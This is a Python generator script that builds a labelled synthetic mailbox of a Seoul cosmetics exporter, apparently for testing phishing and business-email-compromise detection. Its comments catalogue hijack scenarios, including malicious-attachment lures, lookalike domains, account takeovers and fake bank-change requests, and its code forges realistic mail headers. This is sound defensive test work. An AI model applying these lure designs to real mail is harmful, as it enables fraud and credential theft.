#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-29.py OUT_DIR
#
# Probe mailbox "jiyoon": Kim Ji-yoon (김지윤), overseas-sales manager (해외영업팀 과장) at Hanbit Cosmetics (한빛코스메틱, Seoul,
# Korean skincare manufacturer). Company mail runs on a Hiworks-like hosted groupware ("Bizworks", MX mx1/mx2.bizworks-mail.example,
# webmail X-Mailer "Bizworks Webmail 6.2"); she writes Korean mail from the groupware webmail and English/Chinese mail from
# Outlook 16 (same outbound hosts, Outlook Message-ID/Thread-Index). Aug 2024 - Jun 2025 (KST +0900, no DST).
# Correspondents, each with a fixed fingerprint (client headers, Message-ID shape, Received path, DKIM d=/s=, charset, tz, quote style):
#   세진코스텍 OEM factory, 박성호 부장  park.sh@sejin-costech.example      NAVER WORKS mail (worksmobile.com outbound, DKIM d=sejin-costech.example s=works), UTF-8, "-----Original Message-----" quotes
#   대성패키지 packaging, 이민정 대리   daesungpack@hanmail.net               Daum/Kakao webmail (Daum Web Mailer, DKIM d=daum.net s=s20171120), EUC-KR base64, RFC 2047 subjects
#   세움로지스 logistics, 최동훈 과장   dh.choi@seoum-logis.example         on-prem Exchange 2016 + Outlook 16, ks_c_5601-1987, Thread-Index, no DKIM
#   정원관세법인 customs broker, 정해원 관세사 hw.jung@jungwon-customs.example  Microsoft 365 / Outlook (KR tenant), UTF-8
#   GlowHaus Beauty (US, LA), Megan Brooks  megan@glowhaus-beauty.example   Google Workspace, Gmail web, America/Los_Angeles with DST
#   Saigon Beauty Distribution (VN), Nguyen Thi Thu Ha  thuha@saigonbeauty-dist.example  Microsoft 365 Outlook (APC tenant), +0700
#   KL Glow Sdn Bhd (MY), Jason Tan  jason.tan@klglow.example             Zoho Mail web, +0800
#   Desert Rose Trading (UAE), Omar Haddad  omar@desertrose-trading.example  Microsoft 365, Outlook + iPhone, +0400
#   上海美妍贸易 (Shanghai importer), 王丽 Wang Li  wangli@shmeiyan-trade.example  Alibaba enterprise mail (Alimail web), GBK/GB2312, +0800
#   internal (Bizworks): 대표님 이정훈 CEO, 박서연 대리 (trade team), 한도윤 사원 (new hire, Mar 2025), IT helpdesk ticket system
#   notices: DHL Express, bank FX-deposit notices (우리글로벌은행-style, woorim-bank.example), e-tax invoices (etaxhub.example),
#   KOTRA-style newsletter, cosmetics-export mailing list (lists.kcexport.example), Bizworks security notices.
# Writes OUT_DIR/labels.tsv, OUT_DIR/scenarios.tsv and OUT_DIR/mailboxes/jiyoon/{INBOX,Sent}/N.eml (arrival order across both folders).
# Deterministic (random.Random(29)); no network; attachments are inert (random bytes / text in real ZIP, PDF, OOXML, ICS, SVG containers).
#
# Threads: T1 세진 OEM 토너 생산 (Sejin); T2 세진 신제품 세럼 견적; T3 대성 단상자 패키지 발주; T4 세움 선적 부킹 (VN); T5 세움 선적 (UAE);
#   T6 정원 수입요건/통관 (Shanghai samples); T7 GlowHaus PO & FDA MoCRA; T8 GlowHaus marketing assets; T9 Saigon PO & T/T; T10 Saigon
#   registration; T11 KL Glow NPRA notification; T12 KL Glow reorder (revived); T13 Desert Rose L/C; T14 Desert Rose bank change;
#   T15 上海美妍 合同/报价 (Chinese); T16 上海美妍 样品; T17 대표님 internal; T18 박서연 internal trade docs; T19 helpdesk [HELP-####];
#   T20 export mailing list; T21 DHL shipments; T22 세움 meeting; T23 정원 관세 납부; T24 세진 대용량 첨부; T25 GlowHaus agreement;
#   T26 Desert Rose price list 2025; T27 Saigon bank; plus stand-alone notices, newsletters, auto-replies.
#
# Hijacks (14):
#   A1  T2  server-hijack      Sejin's real NAVER WORKS mailbox: "견적서 재송부" password ZIP (pw in text) holding a .lnk, faithful quote
#   A2  T9  account-takeover   Saigon Thu Ha's exact address via Roundcube on a VPS (not Outlook), -0500 Date: new remittance bank (HK), long, context-aware
#   A3  T23 lookalike-domain   jungwon-custom.example "수입신고필증 확인" HTML attachment (fake groupware login), quotes thread
#   A4  T15 server-hijack      上海美妍 real Alimail (same headers, GBK): "修订版合同" .docm, quotes nothing
#   A5  --  display-name-spoof "이정훈" CEO from gmail.com: 문화상품권 gift cards, no payload, no quote
#   A6  T21 fake-thread        stranger "RE: DHL Express 배송 예정" fabricated quote, customs-fee link on unknown domain (delivery)
#   A7  T25 server-hijack      GlowHaus real Google Workspace: "e-sign the 2026 distribution agreement" link on sites.google.com
#   A8  T11 account-takeover   KL Glow Jason's Zoho address via Outlook desktop from a foreign IP: OneNote "PO" attachment
#   A9  T13 lookalike-domain   desertrose-tradinq.example: L/C amendment fee + PDF with payment-portal link, altered quote
#   A10 T4  server-hijack      세움로지스 real Exchange (ks_c_5601-1987): "B/L 사본" SVG attachment with link, altered quote
#   A11 T3  display-name-spoof "대성패키지 이민정" from naver.com: 세금계산서 재발행 link on dropbox.com (zip)
#   A12 T18 account-takeover   colleague 박서연's Bizworks account via IMAP client from a foreign IP: 성과급 명세 payroll link (unknown domain)
#   A13 T6  server-hijack      정원관세법인's real M365 (same headers): UNI-PASS 인증서 모듈 업데이트 link (software update), faithful quote
#   A14 --  fake-thread        stranger "RE: Voicemail / 부재중 음성메시지" (MFA/voicemail), no quote, call-back phone number only
#
# Genuine hard cases (28):
#   G1  T2  Sejin sends the real 견적서 PDF (they always attach PDFs)      G2  T8  GlowHaus Google Drive folder link (thread always had links)
#   G3  T18 new colleague 한도윤 writes herself after introduction        G4  T10 Saigon Thu Ha: new mobile number and new signature
#   G5  T12 KL Glow Jason from the Zoho Mail Android app at 23:48          G6  T14 Desert Rose bank-change letter (PDF), announced in T13
#   G7  T14 Desert Rose first invoice with new (phone-verified) bank       G8  T16 上海美妍 out-of-office (Chinese auto-reply)
#   G9  T7  GlowHaus Gmail vacation responder                             G10 T20 mailing-list reply with list footer and subject tag
#   G11 T18 박서연 forwards 정원관세법인 mail "FW:" with PDF                 G12 --  DHL shipment notification (no reply headers, links)
#   G13 --  Bizworks "new device sign-in" security notice (links)          G14 T12 KL Glow reorder thread revived after 5 months
#   G15 T13 Omar from iPhone at 23:41 Dubai                               G16 T5  세움 zipped shipping docs (requested)
#   G17 T23 정원 real 수입신고필증 PDF                                     G18 T15 上海美妍 Wang Li switches from Alimail web to Foxmail (UTF-8)
#   G19 T17 대표님 from the Bizworks mobile app at 06:32                  G20 --  e-tax invoice notice (전자세금계산서) from etaxhub
#   G21 T24 Sejin NAVER WORKS large-file (대용량) link                     G22 T7  GlowHaus new colleague on reply-all (Cc added)
#   G23 T27 Saigon sends SWIFT MT103 copy PDF for T/T                     G24 T16 上海美妍 pan.baidu.com link for product photos
#   G25 T19 helpdesk ticket reply with password-reset link to own groupware G26 T11 KL Glow zipped NPRA documents (requested)
#   G27 T22 세움 Outlook meeting invite (.ics)                             G28 T23 정원 관세 납부 가상계좌 안내 (payment details, real)
# Genuine orphans (2): O1 Desert Rose's colleague replies to a mail Ji-yoon was not on (parent missing);
#   O2 Sejin replies to 박서연's mail that only went to Sejin (Ji-yoon on Cc of the reply only).
# Plain genuine replies: every other labelled in-thread partner reply (genuine-reply).
import base64, datetime, email.header, hashlib, html as H, io, os, random, struct, sys, uuid, zipfile, zlib
from zoneinfo import ZoneInfo

root = sys.argv[1]
MB = "jiyoon"
for f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{f}", exist_ok=True)
R = random.Random(29)
KST = ZoneInfo("Asia/Seoul"); LA = ZoneInfo("America/Los_Angeles"); VN = ZoneInfo("Asia/Ho_Chi_Minh"); MY = ZoneInfo("Asia/Kuala_Lumpur")
DXB = ZoneInfo("Asia/Dubai"); SH = ZoneInfo("Asia/Shanghai"); UTC = datetime.timezone.utc; NY = ZoneInfo("America/New_York")


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def at(y, mo, d, h, mi, tz=KST): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)
def rfc(t, tz): return t.astimezone(tz).strftime("%a, %d %b %Y %H:%M:%S %z")
def ip(a): return f"{a}.{R.randint(1, 254)}"


class Pt:
    def __init__(s, name, email, client, tz, cs="utf-8", lang="en", sig="", ko_name=None):
        s.name, s.email, s.client, s.tz, s.cs, s.lang, s.sig = name, email, client, tz, cs, lang, sig
        s.dom = email.split("@")[1]; s.ko = ko_name


ME = Pt("김지윤", "jiyoon.kim@hanbit-cosmetics.example", "bizworks", KST, lang="ko",
        sig="김지윤 과장 | 해외영업팀\n한빛코스메틱(주) Hanbit Cosmetics Co., Ltd.\nT +82-2-3452-7781 | M +82-10-4471-2093\n서울특별시 성동구 성수이로 118, 7층")
ME_EN_SIG = "Ji-yoon Kim | Overseas Sales Manager\nHanbit Cosmetics Co., Ltd.\nT +82-2-3452-7781 | M +82-10-4471-2093\n7F, 118 Seongsui-ro, Seongdong-gu, Seoul 04782, Korea"
ME_ZH_SIG = "金智允 Ji-yoon Kim | 海外营业部\nHanbit Cosmetics Co., Ltd. 韩光化妆品\nT +82-2-3452-7781 | WeChat: jiyoon_hanbit"
sejin = Pt("박성호", "park.sh@sejin-costech.example", "naverworks", KST, lang="ko",
           sig="박성호 부장 | 영업관리팀\n(주)세진코스텍 | 경기도 화성시 향남읍 제약공단2길 41\nT 031-352-6610 F 031-352-6619")
daesung = Pt("대성패키지 이민정", "daesungpack@hanmail.net", "daum", KST, cs="euc-kr", lang="ko",
             sig="이민정 대리\n대성패키지 | 인천 남동구 남동서로 212 (남동공단)\nTel 032-818-4425 Fax 032-818-4426")
seoum = Pt("최동훈", "dh.choi@seoum-logis.example", "exchange", KST, cs="ks_c_5601-1987", lang="ko",
           sig="최동훈 과장 / 해상수출팀\n세움로지스(주) SEOUM LOGIS CO., LTD.\nTel: 02-6959-3320 | Mobile: 010-8823-1147")
jungwon = Pt("정해원", "hw.jung@jungwon-customs.example", "m365kr", KST, lang="ko",
             sig="정해원 관세사\n정원관세법인 | 서울 강서구 공항대로 227, 마곡센트럴타워 9층\nT 02-2664-5180 F 02-2664-5181")
megan = Pt("Megan Brooks", "megan@glowhaus-beauty.example", "gmail_ws", LA,
           sig="Megan Brooks\nDirector of Purchasing | GlowHaus Beauty\n1820 E 7th St, Los Angeles, CA 90021\n(213) 555-0148")
thuha = Pt("Nguyen Thi Thu Ha", "thuha@saigonbeauty-dist.example", "m365apc", VN,
           sig="Nguyen Thi Thu Ha (Ms.)\nImport Manager | Saigon Beauty Distribution JSC\n72 Nguyen Thi Minh Khai, District 3, HCMC\nTel: +84 28 3930 7744 | Mob: +84 903 118 426")
jason = Pt("Jason Tan", "jason.tan@klglow.example", "zoho", MY,
           sig="Jason Tan\nBusiness Development | KL Glow Sdn Bhd (1204417-K)\nLot 3-2, Jalan Kenari 5, Puchong, Selangor\n+60 12-388 4107")
omar = Pt("Omar Haddad", "omar@desertrose-trading.example", "m365eu", DXB,
          sig="Omar Haddad\nPurchasing Manager\nDesert Rose Trading LLC | Al Quoz Ind. 3, Dubai, UAE\n+971 4 339 0812 | +971 50 611 2740")
wangli = Pt("王丽", "wangli@shmeiyan-trade.example", "alimail", SH, cs="gbk", lang="zh",
            sig="王丽 | 采购部\n上海美妍贸易有限公司\n上海市闵行区虹梅南路 1755 号 2 幢 4 楼\n电话: 021-6482 3307  手机: 139 1620 4481")
ceo = Pt("이정훈", "jh.lee@hanbit-cosmetics.example", "bizworks", KST, lang="ko", sig="이정훈 드림")
seoyeon = Pt("박서연", "seoyeon.park@hanbit-cosmetics.example", "bizworks", KST, lang="ko",
             sig="박서연 대리 | 해외영업팀 무역실무\n한빛코스메틱(주) T 02-3452-7784")
doyoon = Pt("한도윤", "doyoon.han@hanbit-cosmetics.example", "bizworks", KST, lang="ko",
            sig="한도윤 사원 | 해외영업팀\n한빛코스메틱(주) T 02-3452-7789")


# ---------------------------------------------------------------- per-client fingerprints
OUT = {  # outbound host, IP prefix, DKIM (d, s) or None, client headers
    "bizworks": ("webmail02.bizworks-mail.example", "211.43.203", ("hanbit-cosmetics.example", "bw2023"), [("X-Mailer", "Bizworks Webmail 6.2")]),
    "outlook_me": ("smtp-out1.bizworks-mail.example", "211.43.203", ("hanbit-cosmetics.example", "bw2023"), [("X-Mailer", "Microsoft Outlook 16.0")]),
    "naverworks": ("wsmtp-out3.worksmobile.com", "125.209.209", ("sejin-costech.example", "works"), [("X-Mailer", "NAVER WORKS Mail")]),
    "daum": ("mail-smtp-out7.daum.net", "211.231.106", ("daum.net", "s20171120"), [("X-Mailer", "Daum Web Mailer 1.1"), ("X-Originating-IP", "[121.131.58.207]")]),
    "exchange": ("mail.seoum-logis.example", "112.216.77", None, [("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "ko")]),
    "m365kr": ("mail-koreacentralazon11013057.outbound.protection.outlook.com", "52.101.154", ("jungwon-customs.example", "selector1"), [("Content-Language", "ko-KR")]),
    "m365apc": ("mail-sgaapc01on2107.outbound.protection.outlook.com", "40.107.215", ("saigonbeauty-dist.example", "selector1"), [("Content-Language", "en-US")]),
    "m365eu": ("mail-db8eur05on2119.outbound.protection.outlook.com", "40.107.20", ("desertrose-trading.example", "selector1"), [("Content-Language", "en-US")]),
    "gmail_ws": ("mail-pj1-f45.google.com", "209.85.216", ("glowhaus-beauty.example", "google"), []),
    "zoho": ("sender4-op-o14.zoho.com", "136.143.188", ("klglow.example", "zmail"), [("User-Agent", "Zoho Mail")]),
    "alimail": ("out30-118.freemail.mail.aliyun.com", "115.124.30", ("shmeiyan-trade.example", "default"), [("X-Mailer", "[Alimail-Mailagent revision 2][W11_2]")]),
}
TAG = {"m365kr": ("SE2P216MB", "KORP216"), "m365apc": ("SG2PR04MB", "apcprd04"), "m365eu": ("DB9P195MB", "EURP195")}
INFRA = {"bizworks": "bizworks", "outlook_me": "outlook_me", "naverworks": "naverworks", "daum": "daum", "exchange": "exchange", "m365kr": "m365kr",
         "m365apc": "m365apc", "m365eu": "m365eu", "iphone_m365": "m365eu", "gmail_ws": "gmail_ws", "gmail_vac": "gmail_ws", "zoho": "zoho",
         "zoho_android": "zoho", "alimail": "alimail", "foxmail": "alimail", "bizworks_app": "bizworks"}
OUTLOOKISH = {"outlook_me", "exchange", "m365kr", "m365apc", "m365eu"}


def make_mid(who, client, t):
    if client in ("bizworks", "bizworks_app"): return f"<{t.astimezone(KST):%Y%m%d%H%M%S}.{hx(12)}@bizworks-mail.example>"
    if client == "outlook_me": return f"<00{hx(1)}{hx(1)}01db{hx(4)}${hx(8)}${hx(8)}$@hanbit-cosmetics.example>"
    if client == "naverworks": return f"<{hx(8)}-{hx(4)}-{hx(4)}-{hx(4)}-{hx(12)}@wsmtp-out3.worksmobile.com>"
    if client == "daum": return f"<{t.astimezone(KST):%Y%m%d%H%M%S}.{alnum(18)}@hanmail.net>"
    if client == "exchange": return f"<{HX(32)}@SEOUM-EX01.seoum.local>"
    if client in TAG:
        a, b = TAG[client]; k = f"{a}{R.randint(1000, 9999)}"
        return f"<{k}{HX(10)}{R.choice('ABCDEF')}{hx(1)}{HX(12)}@{k}.{b}.PROD.OUTLOOK.COM>"
    if client == "iphone_m365": return f"<{str(uuid.UUID(int=R.getrandbits(128))).upper()}@desertrose-trading.example>"
    if client in ("gmail_ws", "gmail", "gmail_vac"): return f"<CA{R.choice('BDFHJLNP')}{alnum(2)}{alnum(40)}@mail.gmail.com>"
    if client in ("zoho", "zoho_android"): return f"<{hx(11)}.{hx(8)}.{R.randint(10**18, 10**19)}@klglow.example>"
    if client == "alimail": return f"<{ruuid()}.{R.randint(100000, 999999)}.wangli@shmeiyan-trade.example>"
    if client == "foxmail": return f"<{t.astimezone(SH):%Y%m%d%H%M%S}{R.randint(1000000, 9999999)}@shmeiyan-trade.example>"
    return f"<{hx(24)}@{who.dom}>"


def client_headers(client, subj, t):
    h = list(OUT.get(INFRA.get(client, ""), (0, 0, 0, []))[3])
    if client == "iphone_m365": h = [("X-Mailer", "iPhone Mail (22E252)")]
    if client == "zoho_android": h = [("User-Agent", "Zoho Mail for Android 2.9.14")]
    if client == "foxmail": h = [("X-Mailer", "Foxmail 7.2.25.375[cn]")]
    if client == "bizworks_app": h = [("X-Mailer", "Bizworks Mobile for iOS 4.8.1")]
    if client == "gmail_vac": h = [("Auto-Submitted", "auto-replied"), ("Precedence", "bulk")]
    if client in OUTLOOKISH:
        ti = base64.b64encode(bytes.fromhex(hx(44))).decode()
        h = [("Thread-Topic", strip_re(subj)), ("Thread-Index", ti)] + h
        if client != "outlook_me" and client != "exchange":
            h += [("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", "")]
    return h


def strip_re(s):
    while True:
        for p in ("RE: ", "Re: ", "FW: ", "Fw: ", "回复：", "回复: ", "答复: ", "转发: ", "회신: ", "전달: ", "Re:", "RE:"):
            if s.startswith(p): s = s[len(p):].lstrip(); break
        else: return s


def enc_hdr(v, cs):
    try: v.encode("ascii"); return v
    except UnicodeEncodeError: pass
    c = "utf-8" if cs in ("utf-8",) else cs
    try: v.encode(c)
    except (UnicodeEncodeError, LookupError): c = "utf-8"
    return email.header.Header(v, c if c != "ks_c_5601-1987" else "euc-kr").encode(maxlinelen=76).replace("\n", "\r\n")


def addr(name, e, cs="utf-8"):
    if not name: return e
    try: name.encode("ascii"); return f'"{name}" <{e}>' if any(c in name for c in ",.") else f"{name} <{e}>"
    except UnicodeEncodeError: return f"{enc_hdr(name, cs)} <{e}>"


def transport(who, t, client, orig_ip=None, env=None, spf="pass", dkim="pass", via=None):
    """Received chain top-first + auth headers of our MX (mx1.bizworks-mail.example)"""
    infra = via or OUT[INFRA[client]]
    host, pfx, dk, _ = infra
    hip = orig_ip or ip(pfx)
    env = env or who.email
    ts = lambda dt: rfc(dt, KST)
    t0 = t + datetime.timedelta(seconds=R.randint(2, 9)); t1 = t0 + datetime.timedelta(seconds=R.randint(1, 4))
    qid = HX(10)
    hdr = [("Received", f"from mx1.bizworks-mail.example (localhost [127.0.0.1])\r\n\tby mbox07.bizworks-mail.example (Dovecot LMTP) with LMTP id {alnum(16)}\r\n\tfor <{ME.email}>; {ts(t1)}"),
           ("Received", f"from {host} ({host} [{hip}])\r\n\tby mx1.bizworks-mail.example (Postfix) with ESMTPS id {qid}\r\n\tfor <{ME.email}>; {ts(t0)}")]
    inner = []
    if INFRA[client] == "exchange" and via is None:
        inner = [("Received", f"from SEOUM-EX01.seoum.local (10.10.1.21) by SEOUM-EX01.seoum.local (10.10.1.21) with Microsoft SMTP Server\r\n\t"
                              f"(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA384) id 15.1.2507.39; {rfc(t, KST)}")]
    elif INFRA[client] in ("m365kr", "m365apc", "m365eu") and via is None:
        a, b = TAG[INFRA[client]]; k = f"{a}{R.randint(1000, 9999)}"
        inner = [("Received", f"from {k}.{b}.PROD.OUTLOOK.COM ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {k}.{b}.PROD.OUTLOOK.COM\r\n\t"
                              f"([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%5]) with mapi id 15.20.{R.randint(8000, 8900)}.{R.randint(10, 40)}; {rfc(t, UTC)}")]
    elif INFRA[client] == "gmail_ws" and via is None:
        inner = [("Received", f"by 2002:a17:90b:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with HTTP; {rfc(t, LA)}")]
    elif INFRA[client] == "bizworks" and via is None and client != "outlook_me":
        inner = [("Received", f"from webmail02.bizworks-mail.example (unknown [10.20.4.12]) by smtp-out1.bizworks-mail.example with ESMTPA; {rfc(t, KST)}")]
    d = f"dkim=pass header.d={dk[0]} header.s={dk[1]}" if dk and dkim == "pass" else ("dkim=none" if not dk else f"dkim={dkim} header.d={dk[0]}")
    ar = [("Authentication-Results", f"mx1.bizworks-mail.example;\r\n\tspf={spf} smtp.mailfrom={env};\r\n\t{d};\r\n\tdmarc={'pass' if spf == 'pass' or (dk and dkim == 'pass') else 'none'} header.from={who.dom}")]
    dkh = []
    if dk:
        dkh = [("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={dk[0]}; s={dk[1]};\r\n\tt={int(t.timestamp())}; h=from:to:subject:date:message-id:mime-version:content-type;\r\n\tbh={b64(32)};\r\n\tb={b64(96)}")]
    return hdr + inner, ar, dkh


# ---------------------------------------------------------------- quoting per client
WD_KO = "월화수목금토일"; WD_ZH = "一二三四五六日"
def qblock(client, prev):
    """prev = (who, t, text, subj, to) of the message being answered"""
    who, t, text, subj, to = prev
    if client in ("gmail_ws", "gmail", "zoho", "zoho_android"):
        tl = t.astimezone(LA if client.startswith("gmail") else MY)
        hdr = (f"On {tl:%a, %b} {tl.day}, {tl:%Y} at {(tl.hour - 1) % 12 + 1}:{tl:%M} {'AM' if tl.hour < 12 else 'PM'} {who.name} <{who.email}> wrote:"
               if client.startswith("gmail") else f"---- On {tl:%a, %d %b %Y %H:%M:%S %z} {who.name} <{who.email}> wrote ---")
        return "\n\n" + hdr + "\n" + "\n".join(("> " + l).rstrip() for l in text.split("\n"))
    tk = t.astimezone(KST)
    if client in ("exchange", "m365kr"):
        return (f"\n\n-----Original Message-----\n보낸 사람: {who.name} <{who.email}>\n보낸 날짜: {tk:%Y}년 {tk.month}월 {tk.day}일 {WD_KO[tk.weekday()]}요일 "
                f"{'오전' if tk.hour < 12 else '오후'} {(tk.hour - 1) % 12 + 1}:{tk:%M}\n받는 사람: {to}\n제목: {subj}\n\n{text}")
    if client in ("outlook_me", "m365apc", "m365eu", "iphone_m365"):
        if client == "iphone_m365":
            return f"\n\nSent from my iPhone\n\n> On {t.astimezone(DXB):%d %b %Y}, at {t.astimezone(DXB):%H:%M}, {who.name} <{who.email}> wrote:\n>\n" + "\n".join(("> " + l).rstrip() for l in text.split("\n"))
        return f"\n\n________________________________\nFrom: {who.name} <{who.email}>\nSent: {t.astimezone(KST if client == 'outlook_me' else (VN if client == 'm365apc' else DXB)):%A, %B %d, %Y %I:%M %p}\nTo: {to}\nSubject: {subj}\n\n{text}"
    if client == "naverworks":
        return f"\n\n-----Original Message-----\nFrom: \"{who.name}\"<{who.email}>\nTo: {to}\nSent: {tk:%Y-%m-%d} ({WD_KO[tk.weekday()]}) {tk:%H:%M:%S} (GMT+09:00)\nSubject: {subj}\n\n{text}"
    if client == "daum":
        return f"\n\n-----Original Message-----\nFrom : \"{who.name}\" <{who.email}>\nTo : {to}\nDate : {tk:%Y/%m/%d} {WD_KO[tk.weekday()]}요일 {'오전' if tk.hour < 12 else '오후'} {tk:%I:%M:%S}\nSubject : {subj}\n\n{text}"
    if client in ("alimail", "foxmail"):
        ts = t.astimezone(SH)
        return (f"\n\n------------------------------------------------------------------\n发件人：{who.name} <{who.email}>\n发送时间：{ts.year}年{ts.month}月{ts.day}日(星期{WD_ZH[ts.weekday()]}) {ts:%H:%M}\n"
                f"收件人：{to}\n主　题：{subj}\n\n{text}") if client == "alimail" else (f"\n\n\n\n\n{ts:%Y-%m-%d %H:%M}\n\n\n\n\n发件人： {who.name}\n发送时间： {ts:%Y-%m-%d %H:%M}\n收件人： {to}\n主题： {subj}\n{text}")
    # bizworks
    return f"\n\n--------- 원본 메일 ---------\n보낸사람: \"{who.name}\" <{who.email}>\n받는사람: {to}\n날짜: {tk:%Y-%m-%d %H:%M:%S}\n제목: {subj}\n\n" + "\n".join("> " + l if l else ">" for l in text.split("\n"))


def body_html(plain):
    out = []
    for l in plain.split("\n"):
        out.append(f"<div>{H.escape(l) if l else '<br>'}</div>")
    return "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body style=\"font-family:Malgun Gothic,sans-serif;font-size:10pt\">" + "\n".join(out) + "</body></html>"


def b64lines(data): return base64.encodebytes(data).decode().rstrip("\n")


def pick_cs(text, pref):
    if pref == "utf-8": return "utf-8"
    pyc = "euc-kr" if pref == "ks_c_5601-1987" else pref
    try: text.encode(pyc); return pref
    except UnicodeEncodeError: return "utf-8"


def textpart(ctype, text, cs):
    pyc = "euc-kr" if cs == "ks_c_5601-1987" else cs
    data = text.replace("\n", "\r\n").encode(pyc)
    try: data.decode("ascii"); return f"Content-Type: {ctype}; charset=\"{cs}\"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n{text.replace(chr(10), chr(13) + chr(10))}"
    except UnicodeDecodeError: pass
    return f"Content-Type: {ctype}; charset=\"{cs}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64lines(data).replace("\n", "\r\n")


def att_part(name, data, ctype):
    try: name.encode("ascii"); fn = f'filename="{name}"'; nm = f'name="{name}"'
    except UnicodeEncodeError:
        e = email.header.Header(name, "utf-8").encode().replace("\n", "\r\n"); fn = f'filename="{e}"'; nm = f'name="{e}"'
    return f"Content-Type: {ctype}; {nm}\r\nContent-Disposition: attachment; {fn}\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64lines(data).replace("\n", "\r\n")


MSGS = []   # (t, folder, bytes, mid, label, scen)
def emit(who, client, t, to, subj, plain, refs=(), cc=(), html=True, atts=(), extra=(), label=None, scen=None, frm=None, mid=None,
         folder=None, orig_ip=None, env=None, spf="pass", dkim="pass", via=None, cs=None, no_transport=False, html_only=None):
    mid = mid or make_mid(who, client, t)
    folder = folder or ("Sent" if who is ME and client in ("bizworks", "outlook_me") and not frm else "INBOX")
    cs = pick_cs(plain, cs or (who.cs if client not in ("foxmail",) else "utf-8"))
    tz = who.tz
    h = [("From", frm or addr(who.name, who.email, cs)), ("To", ", ".join(addr(n, e, cs) for n, e in to))]
    if cc: h.append(("Cc", ", ".join(addr(n, e, cs) for n, e in cc)))
    h += [("Subject", enc_hdr(subj, cs)), ("Date", rfc(t, tz)), ("Message-ID", mid)]
    if refs: h += [("In-Reply-To", refs[-1]), ("References", "\r\n ".join(refs[-8:]))]
    h += client_headers(client, subj, t) + list(extra)
    top = []
    if folder == "INBOX" and not no_transport:
        rec, ar, dk = transport(who, t, client, orig_ip=orig_ip, env=env, spf=spf, dkim=dkim, via=via)
        top = rec + ar + dk
    bnd = f"----=_Part_{R.randint(100000, 999999)}_{R.randint(10**8, 10**9)}.{int(t.timestamp() * 1000)}"
    if html_only is not None:
        body = textpart("text/html", html_only, cs); ct = None
    elif not html and not atts:
        body = textpart("text/plain", plain, cs); ct = None
    else:
        alt = None
        if html:
            ab = "alt_" + bnd
            alt = (f"Content-Type: multipart/alternative; boundary=\"{ab}\"\r\n\r\n--{ab}\r\n" + textpart("text/plain", plain, cs) + f"\r\n--{ab}\r\n"
                   + textpart("text/html", body_html(plain).replace("utf-8", cs), cs) + f"\r\n--{ab}--")
        if not atts: body = alt; ct = None
        else:
            parts = [alt or textpart("text/plain", plain, cs)] + [att_part(*a) for a in atts]
            body = f"Content-Type: multipart/mixed; boundary=\"{bnd}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n\r\n" + "".join(f"--{bnd}\r\n{p}\r\n" for p in parts) + f"--{bnd}--"
    lines = [f"{k}: {v}" if v != "" else f"{k}:" for k, v in top + h] + ["MIME-Version: 1.0"]
    raw = ("\r\n".join(lines) + "\r\n" + body + "\r\n").encode("utf-8")
    MSGS.append((t, folder, raw, mid, label, scen))
    return mid


class Thread:
    def __init__(s, partner, subj, pclient, myclient, cc=()):
        s.p, s.subj, s.pc, s.mc, s.cc = partner, subj, pclient, myclient, cc
        s.refs = []; s.prev = None; s.n = 0
    def rsubj(s, client):
        if s.n == 0: return s.subj
        if client in ("alimail",): return "回复：" + strip_re(s.subj)
        if client in ("foxmail",): return "回复: " + strip_re(s.subj)
        if client in ("daum", "naverworks", "bizworks", "bizworks_app"): return "Re: " + strip_re(s.subj)
        if client in ("gmail_ws", "zoho", "zoho_android", "iphone_m365"): return "Re: " + strip_re(s.subj)
        return "RE: " + strip_re(s.subj)
    def say(s, who, t, text, client=None, label="auto", scen=None, atts=(), quote=True, cc=None, extra=(), advance=True, **kw):
        client = client or (s.mc if who is ME else s.pc)
        subj = s.rsubj(client)
        sig = who.sig if who is not ME else (ME.sig if s.p.lang == "ko" else (ME_ZH_SIG if s.p.lang == "zh" else ME_EN_SIG))
        body = text + "\n\n" + sig
        full = body + (qblock(client, s.prev) if (quote and s.prev) else "")
        to = kw.pop("to", None) or ([(s.p.name, s.p.email)] if who is ME else [(ME.name if s.p.lang == "ko" else "Ji-yoon Kim", ME.email)])
        if label == "auto": label = ("genuine", "genuine-reply") if (who is not ME and s.n > 0 and s.refs) else None
        m = emit(who, client, t, to, subj, full, refs=list(s.refs), cc=(cc if cc is not None else s.cc), atts=atts, extra=extra, label=label, scen=scen, **kw)
        if advance:
            s.refs.append(m); s.n += 1
            s.prev = (who, t, body, subj, ", ".join(f"{n} <{e}>" for n, e in to))
        return m


# ---------------------------------------------------------------- inert attachments with real container structure
def zbytes(members, encrypt=False, when=(2025, 3, 10, 10, 0, 0)):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED
        if not name.isascii(): zi.flag_bits |= 0x800
        z.writestr(zi, data)
    z.close(); b = bytearray(bio.getvalue())
    if encrypt:
        i = 0
        while (i := b.find(b"PK\x03\x04", i)) >= 0:
            b[i + 6] |= 1; csz = struct.unpack("<I", b[i + 18:i + 22])[0]; nl, el = struct.unpack("<HH", b[i + 26:i + 30])
